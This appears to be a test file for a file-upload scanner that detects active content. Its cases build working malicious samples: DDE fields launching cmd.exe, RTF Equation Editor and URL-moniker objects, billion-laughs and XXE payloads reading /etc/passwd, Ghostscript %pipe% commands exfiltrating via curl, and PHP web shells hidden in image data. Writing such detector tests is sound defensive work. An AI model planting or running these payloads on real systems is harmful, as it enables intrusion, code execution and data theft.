          '<p:sld><a:hlinkMouseOver r:id="rId1" action="ppaction://program" highlightClick="1"/></p:sld>',
        'ppt/slides/_rels/slide1.xml.rels': rel('hyperlink', 'powershell.exe'),
      }),
      ['office-remote'],
    ],
    [
      'a relative link to a program next to the document',
      docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'tools\\setup.exe') }),
      ['office-remote'],
    ],
    // Look-alikes: ordinary links to the web, an internal template, a local image; the local
    // template path and file links Word writes into documents made from a template on the
    // author's disk.
    [
      "a template on the author's disk",
      docx({
        'word/_rels/settings.xml.rels': rel(
          'attachedTemplate',
          'file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotm',
        ),
      }),
      [],
    ],
    [
      'a template by drive path, and one at file://localhost/',
      docx({
        'word/_rels/settings.xml.rels': rel('attachedTemplate', 'C:\\Templates\\Report.dotx'),
        'word/_rels/document.xml.rels': rel('attachedTemplate', 'file://localhost/C:/t/Memo.dotx'),
      }),
      [],
    ],
    [
      "a hyperlink to a spreadsheet on the author's disk",
      docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'file:///C:/Reports/q3.xlsx') }),
      [],
    ],
    [
      'ordinary external hyperlinks',
      docx({ 'word/_rels/document.xml.rels': rel('hyperlink', 'https://example.com/terms') }),
      [],
    ],
    [
      'a link to download an installer from the web, and a relative link to a document',
      docx({
        'word/_rels/document.xml.rels': rel('hyperlink', 'https://example.com/setup.exe'),
        'word/_rels/footnotes.xml.rels': rel('hyperlink', 'reports/q3.xlsx'),
      }),
      [],
    ],
    [
      'an attached template inside the package',
      docx({ 'word/_rels/settings.xml.rels': rel('attachedTemplate', 'template.dotx', false) }),
      [],
    ],
    [
      'an image inside the package',
      docx({ 'word/_rels/document.xml.rels': rel('image', 'media/image1.png', false) }),
      [],
    ],
  ])('%s', async (_label, bytes, expected) => {
    expect(await active('report.docx', bytes)).toEqual(expected);
  });
});

describe('active-content: entity expansion', () => {
  const laughs = (levels: number) =>
    `<?xml version="1.0"?>\n<!DOCTYPE svg [\n <!ENTITY lol0 "lol">\n${Array.from(
      { length: levels },
      (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">\n`,
    ).join('')}]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&lol${levels};</text></svg>`;
  const illustrator =
    '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n <!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">\n <!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]>\n<svg xmlns="&ns_svg;" xmlns:x="&ns_extend;"><rect/></svg>';
  it.each([
    ['the billion laughs', 'lol.svg', laughs(9), ['entity-expansion']],
    [
      'the quadratic blowup',
      'data.xml',
      `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "${'a'.repeat(64 * 1024)}">]><r>${'&a;'.repeat(300)}</r>`,
      ['entity-expansion'],
    ],
    [
      'the billion laughs in a Word part',
      'letter.docx',
      zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': laughs(9) }),
      ['entity-expansion'],
    ],
    [
      'a chain of thousands of entities (deeper than the call stack)',
      'chain.svg',
      `<!DOCTYPE svg [<!ENTITY e0 "x">${Array.from({ length: 8000 }, (_, i) => `<!ENTITY e${i + 1} "&e${i};&e${i};">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&e8000;</text></svg>`,
      ['entity-expansion'],
    ],
    // Look-alikes: a few levels, Illustrator's namespace entities, entities never referenced.
    ['a few levels', 'small.svg', laughs(3), []],
    ['Illustrator’s namespace entities', 'logo.svg', illustrator, []],
    ['declared, never referenced', 'quiet.svg', laughs(9).replace('&lol9;', 'hello'), []],
  ])('%s', async (_label, name, content, expected) => {
    expect(await active(name, content)).toEqual(expected);
  });
});

describe('active-content: the EICAR test file', () => {
  // Built from parts, so that this test file is not itself the test file.
  const test = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-${'ANTIVIRUS'}-TEST-FILE!$H+H*`;
  it.each([
    ['on its own', 'eicar.txt', test, ['eicar']],
    ['followed by a line break', 'eicar.txt', `${test}\r\n`, ['eicar']],
    ['zipped', 'eicar_com.zip', zip({ 'eicar.txt': test }), ['eicar']],
    // Not the test file: its string inside other text, or too long a file.
    ['quoted in a note', 'notes.txt', `The test string is ${test}, see the docs.`, []],
    ['followed by more than whitespace', 'a.txt', `${test} and more`, []],
    ['padded past 128 bytes', 'a.txt', `${test}${' '.repeat(100)}`, []],
  ])('%s', async (_label, name, content, expected) => {
    expect(await active(name, content)).toEqual(expected);
  });
});

describe('active-content: RTF objects', () => {
  const hex = (text: string) => Buffer.from(text, 'latin1').toString('hex');
  /** An OLE1 object header: version, format (embedded), the class name's length and the name. */
  const ole1 = (cls: string, rest = '') => {
    const length = Buffer.alloc(4);
    length.writeUInt32LE(cls.length + 1);
    return `0105000002000000${length.toString('hex')}${hex(cls)}00${hex(rest)}`;
  };
  const rtf = (object: string) => `{\\rtf1\\ansi Dear customer,\\par{\\object\\objemb${object}}}`;
  const data = (hexDigits: string) => `{\\*\\objdata ${hexDigits}}`;
  it.each([
    [
      'the Equation Editor by class',
      'invoice.rtf',
      rtf(`{\\*\\objclass Equation.3}${data(ole1('Equation.3'))}`),
    ],
    ['RTF named .doc', 'invoice.doc', rtf(`{\\*\\objclass Equation.3}${data(ole1('Equation.3'))}`)],
    ['a {\\rt header without rtf1', 'a.rtf', rtf(data(ole1('Equation.3'))).replace('{\\rtf1', '{\\rtvpn')],
    [
      'the class only in the data, its hex split by whitespace',
      'a.rtf',
      rtf(data(ole1('Equation.3').replace(/(..)/g, '$1 \n'))),
    ],
    ['an OLE package', 'a.rtf', rtf(data(ole1('Package', 'evil.exe')))],
    [
      'the Equation Editor CLSID in a compound file',
      'a.rtf',
      rtf(data(`${ole1('Word.Document.8')}02ce020000000000c000000000000046`)),
    ],
    [
      'a URL moniker to http (CVE-2017-0199)',
      'a.rtf',
      rtf(data(ole1('Word.Document.8', 'OLE2Link\0h\0t\0t\0p\0:\0/\0/\0'))),
    ],
    ['an object that updates itself', 'a.rtf', rtf(`\\objupdate${data(ole1('Excel.Sheet.8'))}`)],
  ])('%s', async (_label, name, text) => {
    expect((await active(name, text)).filter((k) => k !== 'wrong-type')).toEqual(['rtf-object']);
  });

  it.each([
    ['plain RTF', '{\\rtf1\\ansi Hello {\\b world}\\par}'],
    [
      'an embedded Excel chart',
      rtf(`{\\*\\objclass Excel.Sheet.12}${data(ole1('Excel.Sheet.12', 'package relationships'))}`),
    ],
    ['a picture', '{\\rtf1{\\pict\\pngblip 89504e470d0a1a0a}}'],
    ['the words in the text', '{\\rtf1 The Equation.3 object and the Package class \\par}'],
  ])('not: %s', async (_label, text) => {
    expect(await active('letter.rtf', text)).toEqual([]);
  });
});

describe('active-content: an archive appended to an image or PDF', () => {
  const jar = zip({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n', 'Main.class': 'x' });
  it.each([
    ['a GIFAR', 'a.gif', Buffer.concat([gif(), jar]), ['appended-archive']],
    [
      'a large JPEG with a PHAR (zip) at its end',
      'a.jpg',
      Buffer.concat([big(jpeg()), jar]),
      ['appended-archive'],
    ],
    [
      'a zip with a comment after its end record',
      'a.png',
      Buffer.concat([png(), withComment(jar, 'hi')]),
      ['appended-archive'],
    ],
    [
      'a PDF that is also a JAR',
      'a.pdf',
      Buffer.concat([pdf('<</Type/Catalog>>'), jar]),
      ['appended-archive'],
    ],
    // Look-alikes: the bytes PK\x05\x06 without a record that ends the file, a zip itself.
    [
      'a chance end signature in image data',
      'a.jpg',
      Buffer.concat([jpeg(), Buffer.from('PK\x05\x06 and more bytes after it, 22+')]),
      [],
    ],
    [
      'an end record whose comment length does not fit',
      'a.png',
      Buffer.concat([png(), withComment(jar, 'hi').subarray(0, -1)]),
      [],
    ],
    ['a zip under its own name', 'a.zip', jar, []],
  ])('%s', async (_label, name, bytes, expected) => {
    expect(await active(name, bytes)).toEqual(expected);
  });
});

/** A zip whose end record carries a comment. */
function withComment(archive: Buffer, comment: string): Buffer {
  const out = Buffer.concat([archive, Buffer.from(comment)]);
  out.writeUInt16LE(comment.length, archive.length - 2);
  return out;
}

describe('active-content: DDE in Office documents', () => {
  const body = (paragraphs: string) =>
    `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraphs}</w:body></w:document>`;
  const run = (inner: string) => `<w:r>${inner}</w:r>`;
  const begin = run('<w:fldChar w:fldCharType="begin"/>');
  const end = run('<w:fldChar w:fldCharType="end"/>');
  const code = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
  const quote = (text: string) => `QUOTE ${[...text].map((c) => c.charCodeAt(0)).join(' ')}`;
  const docx = (parts: Record<string, string>) =>
    zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': body(''), ...parts });
  const xlsx = (parts: Record<string, string>) =>
    zip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>', ...parts });
  const sheet = (formula: string) =>
    `<worksheet><sheetData><row r="1"><c r="A1"><f>${formula}</f><v>0</v></c></row></sheetData></worksheet>`;
  const calc = 'c:\\Windows\\System32\\cmd.exe &quot;/k calc.exe&quot;';
  it.each([
    [
      'a DDEAUTO field',
      docx({ 'word/document.xml': body(`<w:p>${begin}${code(`DDEAUTO ${calc}`)}${end}</w:p>`) }),
    ],
    [
      'its code split across runs',
      docx({ 'word/document.xml': body(`<w:p>${begin}${code('DD')}${code(`EAUTO ${calc}`)}${end}</w:p>`) }),
    ],
    [
      'a simple field',
      docx({ 'word/document.xml': body(`<w:p><w:fldSimple w:instr="DDE ${calc}"/></w:p>`) }),
    ],
    [
      'DDEAUTO spelled by a nested QUOTE field',
      docx({
        'word/document.xml': body(
          `<w:p>${begin}${begin}${code(quote('DDEAUTO'))}${end}${code(` ${calc}`)}${end}</w:p>`,
        ),
      }),
    ],
    [
      'in a header',
      docx({ 'word/header1.xml': `<w:hdr><w:p>${begin}${code(`DDE ${calc}`)}${end}</w:p></w:hdr>` }),
    ],
    [
      'after many pages of text',
      docx({
        'word/document.xml': body(
          `${'<w:p><w:r><w:t>lorem ipsum dolor</w:t></w:r></w:p>'.repeat(2000)}<w:p>${begin}${code(`DDEAUTO ${calc}`)}${end}</w:p>`,
        ),
      }),
    ],
    [
      'written with another namespace prefix',
      docx({
        'word/document.xml': `<ns0:document xmlns:ns0="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><ns0:body><ns0:p><ns0:r><ns0:fldChar ns0:fldCharType="begin"/></ns0:r><ns0:r><ns0:instrText>DDEAUTO ${calc}</ns0:instrText></ns0:r><ns0:r><ns0:fldChar ns0:fldCharType="end"/></ns0:r></ns0:p></ns0:body></ns0:document>`,
      }),
    ],
    [
      'a simple field in single quotes',
      docx({ 'word/document.xml': body(`<w:p><w:fldSimple w:instr='DDE ${calc}'/></w:p>`) }),
    ],
    [
      'its code in a CDATA section, split by a comment',
      docx({
        'word/document.xml': body(
          `<w:p>${begin}${code(`<![CDATA[DD]]><!-- x -->EAUTO ${calc}`)}${end}</w:p>`,
        ),
      }),
    ],
    [
      'an Excel DDE link with a prefix',
      xlsx({
        'xl/externalLinks/externalLink1.xml':
          '<x:externalLink xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>',
      }),
    ],
    [
      'an Excel DDE link',
      xlsx({
        'xl/externalLinks/externalLink1.xml':
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
    ],
    ['an Excel DDE formula', xlsx({ 'xl/worksheets/sheet1.xml': sheet("cmd|' /C calc'!A0") })],
    [
      'an Excel DDE formula in a prefixed sheet',
      xlsx({
        'xl/worksheets/sheet1.xml': `<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData><x:row r="1"><x:c r="A1"><x:f>cmd|' /C calc'!A0</x:f></x:c></x:row></x:sheetData></x:worksheet>`,
      }),
    ],
    [
      'an Excel DDE formula inside an expression',
      xlsx({ 'xl/worksheets/sheet1.xml': sheet("SUM(1+1)*cmd|' /C calc'!A0") }),
    ],
  ])('%s', async (_label, bytes) => {
    expect(await active('report.docx', bytes)).toEqual(['office-dde']);
  });

  it.each([
    [
      'ordinary fields',
      docx({
        'word/document.xml': body(
          `<w:p>${begin}${code('PAGE')}${end}${begin}${code('HYPERLINK "https://example.com"')}${end}<w:fldSimple w:instr="TOC \\o"/></w:p>`,
        ),
      }),
    ],
    [
      'a merge field named DDE_Number',
      docx({ 'word/document.xml': body(`<w:p>${begin}${code('MERGEFIELD DDE_Number')}${end}</w:p>`) }),
    ],
    [
      'field elements in the wrong case (XML names match by case: not fields to Word)',
      docx({
        'word/document.xml': body(
          `<w:p><w:r><w:FLDCHAR w:fldCharType="begin"/></w:r><w:r><w:INSTRTEXT>DDEAUTO ${calc}</w:INSTRTEXT></w:r></w:p>`,
        ),
      }),
    ],
    [
      'DDE in the text, not a field',
      docx({ 'word/document.xml': body('<w:p><w:r><w:t>DDE links, and DDEAUTO fields</w:t></w:r></w:p>') }),
    ],
    [
      'a formula with | in a string',
      xlsx({ 'xl/worksheets/sheet1.xml': sheet('CONCAT(&quot;a|b!&quot;,A1)') }),
    ],
    ['a formula with | in a plain string', xlsx({ 'xl/worksheets/sheet1.xml': sheet('CONCAT("a|b!",A1)') })],
    ['a formula on another sheet', xlsx({ 'xl/worksheets/sheet1.xml': sheet("'Q1 totals'!B2*2") })],
    [
      'an external link to a workbook',
      xlsx({
        'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>',
      }),
    ],
  ])('not: %s', async (_label, bytes) => {
    expect(await active('report.docx', bytes)).toEqual([]);
  });
});

describe('active-content: ImageMagick scripts (MVG, MSL)', () => {
  const mvg = `push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/x.jpg"|ls "-la)'\npop graphic-context\n`;
  it.each([
    ['an MVG script', 'exploit.mvg', mvg, ['image-script']],
    ['an MVG script named .png', 'avatar.png', mvg, ['image-script']],
    [
      'an MVG file read after comments',
      'x.jpg',
      "# generated\nviewbox 0 0 1 1\nimage over 0,0 0,0 'text:/etc/passwd'\n",
      ['image-script'],
    ],
    [
      'an MSL that writes a file',
      'poc.msl',
      '<?xml version="1.0"?>\n<image>\n<read filename="/tmp/x.gif"/>\n<write filename="/var/www/x.php"/>\n</image>',
      ['image-script'],
    ],
    [
      'an MSL without a prolog, named .svg',
      'a.svg',
      '<image><read filename="caption:x"/></image>',
      ['image-script'],
    ],
    [
      'a PNG whose profile text chunk names a file (CVE-2022-44268)',
      'a.png',
      Buffer.concat([
        png().subarray(0, 33),
        pngChunk('tEXt', Buffer.from('profile\0/etc/passwd')),
        png().subarray(33),
      ]),
      ['image-script'],
    ],
    [
      'PostScript named .jpg (Ghostscript runs it)',
      'avatar.jpg',
      '%!PS-Adobe-3.0\n(%pipe%id > /tmp/x) (w) file\nshowpage\n',
      ['image-script'],
    ],
    ['a bare %! program named .png', 'a.png', '%!\nuserdict /setpagedevice undef\nsave\n', ['image-script']],
    [
      'binary EPS named .gif',
      'logo.gif',
      Buffer.concat([Buffer.from([0xc5, 0xd0, 0xd3, 0xc6]), Buffer.alloc(60)]),
      ['image-script'],
    ],
    // Under any name, PostScript that has Ghostscript run a command.
    [
      'PostScript named .pdf writing to %pipe%',
      'invoice.pdf',
      '%!PS\ncurrentdevice null true mark /OutputICCProfile (%pipe%curl http://x/?a=$(id) )\n.putdeviceparams\nquit',
      ['image-script'],
    ],
    [
      'an EPS whose output file is a pipe, past a long prolog',
      'logo.eps',
      `%!PS-Adobe-3.0 EPSF-3.0\n${'% prolog\n'.repeat(1000)}<< /OutputFile (|id) >> setpagedevice\n`,
      ['image-script'],
    ],
    ['a .ps calling .forceput', 'paper.ps', '%!PS\n/x { systemdict /a .forceput } def\n', ['image-script']],
    // Benign look-alikes.
    ['an EPS logo under its own name', 'logo.eps', '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n', []],
    [
      'a PostScript document that writes to a file of its own',
      'paper.ps',
      '%!PS-Adobe-3.0\n/f (out.txt) (w) file def\nf (pipe dreams) writestring\nshowpage\n',
      [],
    ],
    ['a PostScript document', 'paper.ps', '%!PS-Adobe-3.0\n%%Pages: 1\nshowpage\n', []],
    ['notes that mention %!', 'notes.txt', 'A PostScript file starts with %!PS.\n', []],
    [
      'a PNG with ImageMagick’s own raw profile chunk',
      'a.png',
      Buffer.concat([
        png().subarray(0, 33),
        pngChunk('zTXt', Buffer.from('Raw profile type exif\0\0x')),
        png().subarray(33),
      ]),
      [],
    ],
    ['notes that talk about viewbox', 'notes.txt', 'Set the viewbox 0 0 10 10 in the SVG.\n', []],
    [
      'an SVG with a viewBox',
      'a.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect/></svg>',
      [],
    ],
    [
      'an RSS image element',
      'feed.xml',
      '<?xml version="1.0"?><rss><channel><image><url>https://x/y.png</url></image></channel></rss>',
      [],
    ],
  ])('%s', async (_label, name, content, expected) => {
    expect(await active(name, content)).toEqual(expected);
  });
});

describe('active-content: gzip-compressed markup (.svgz)', () => {
  it.each([
    [
      'an .svgz with a handler',
      'logo.svgz',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      ['svg-script'],
    ],
    [
      'an .svgz that loads a remote image',
      'logo.svgz',
      '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/></svg>',
      ['external-reference'],
    ],
    ['a plain .svgz', 'logo.svgz', '<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>', []],
    ['a gzip of text', 'notes.txt.gz', 'hello onload="x" world\n', []],
  ])('%s', async (_label, name, content, expected) => {
    expect(await active(name, gzipSync(content))).toEqual(expected);
  });

  it('says when the inflated markup runs past maxMarkupBytes', async () => {
    const long = `<svg xmlns="http://www.w3.org/2000/svg">${' '.repeat(300 * 1024)}<script>x</script></svg>`;
    expect(await active('big.svgz', gzipSync(long))).toEqual(['incomplete']);
  });
});

describe('active-content: external entities inside document parts', () => {
  const xxe =
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>';
  it.each([
    [
      'a docx whose document.xml declares an external entity',
      'letter.docx',
      zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': { data: xxe, deflate: true } }),
      ['xxe'],
    ],
    [
      'an xlsx whose [Content_Types].xml declares a parameter entity',
      'sheet.xlsx',
      zip({
        '[Content_Types].xml':
          '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY % p SYSTEM "http://203.0.113.9/x.dtd"> %p;]><Types/>',
        'xl/workbook.xml': '<workbook/>',
      }),
      ['xxe'],
    ],
    [
      'an ODT with an internal entity only',
      'doc.odt',
      zip({
        mimetype: 'application/vnd.oasis.opendocument.text',
        'content.xml':
          '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY co "ACME">]><office:document>&co;</office:document>',
      }),
      [],
    ],
    ['a zip with a text file that quotes an entity declaration', 'notes.zip', zip({ 'notes.txt': xxe }), []],
  ])('%s', async (_label, name, bytes, expected) => {
    expect(await active(name, bytes)).toEqual(expected);
  });
});

describe('active-content: image metadata past the head and before the tail', () => {
  const segment = (marker: number, data: Buffer): Buffer => {
    const head = Buffer.from([0xff, marker, 0, 0]);
    head.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([head, data]);
  };
  const filler = (n: number) => Buffer.alloc(n, 0x41);
  const photo = (middle: Buffer): Buffer => {
    const body = jpeg();
    return Buffer.concat([
      body.subarray(0, 20),
      segment(0xe1, Buffer.concat([Buffer.from('http://ns.adobe.com/xap/1.0/\0'), filler(6000)])),
      middle,
      segment(0xe2, filler(6000)),
      body.subarray(20),
    ]);
  };
  const picture = (middle: Buffer): Buffer => {
    const body = png();
    return Buffer.concat([
      body.subarray(0, 33),
      pngChunk('iTXt', Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\0\0\0\0'), filler(6000)])),
      middle,
      pngChunk('prVt', filler(6000)),
      body.subarray(33),
    ]);
  };
  it.each([
    [
      'PHP in a JPEG comment after a large XMP packet',
      'a.jpg',
      photo(segment(0xfe, Buffer.from('<?php system($_GET["c"]); ?>'))),
      ['server-code'],
    ],
    [
      'a script in a PNG text chunk after a large one',
      'a.png',
      picture(pngChunk('tEXt', Buffer.from('Comment\0<script>alert(1)</script>'))),
      ['html'],
    ],
    [
      'a JPEG with large ordinary metadata',
      'a.jpg',
      photo(segment(0xfe, Buffer.from('Taken with a phone, <3 from Lisbon'))),
      [],
    ],
    [
      'a PNG with large ordinary metadata',
      'a.png',
      picture(pngChunk('tEXt', Buffer.from('Software\0GIMP 2.10 <= best'))),
      [],
    ],
  ])('%s', async (_label, name, bytes, expected) => {
    // Past the 4 KiB head and before the 4 KiB tail: only the metadata walk reads it.
    expect(bytes.length).toBeGreaterThan(12_000);
    expect(await active(name, bytes)).toEqual(expected);
  });

  /** Image data, as payload tools write it to survive a re-save: right where the data starts. */
  const scanned = (data: Buffer): Buffer => {
    const body = jpeg();
    const sos = body.indexOf(Buffer.from([0xff, 0xda]));
    const scanStart = sos + 2 + body.readUInt16BE(sos + 2);
    return Buffer.concat([
      body.subarray(0, 20),
      segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), filler(6000)])),
      body.subarray(20, scanStart),
      data,
      filler(8000),
      Buffer.from([0xff, 0xd9]),
    ]);
  };
  const deflated = (data: Buffer): Buffer => {
    const body = png();
    return Buffer.concat([
      body.subarray(0, 33),
      pngChunk('iTXt', Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\0\0\0\0'), filler(6000)])),
      pngChunk('IDAT', Buffer.concat([data, filler(8000)])),
      pngChunk('IEND', Buffer.alloc(0)),
    ]);
  };
  it.each([
    [
      'PHP at the start of a JPEG scan, after large metadata',
      'a.jpg',
      scanned(Buffer.from('<?=$_GET[0]($_POST[1]);?>')),
      ['server-code'],
    ],
    [
      'PHP in the IDAT data of a PNG, after large metadata',
      'a.png',
      deflated(Buffer.from('\x78\x9c<?=$_GET[0]($_POST[1]);?>', 'latin1')),
      ['server-code'],
    ],
    [
      'ordinary scan data after large metadata',
      'a.jpg',
      scanned(Buffer.from('\x12<\x34<?\x00<%\x01', 'latin1')),
      [],
    ],
    [
      'ordinary IDAT data after large metadata',
      'a.png',
      deflated(Buffer.from('\x78\x9c<?x\x00<%=', 'latin1')),
      [],
    ],
  ])('%s', async (_label, name, bytes, expected) => {
    expect(bytes.length).toBeGreaterThan(14_000);
    expect(await active(name, bytes)).toEqual(expected);
  });
});
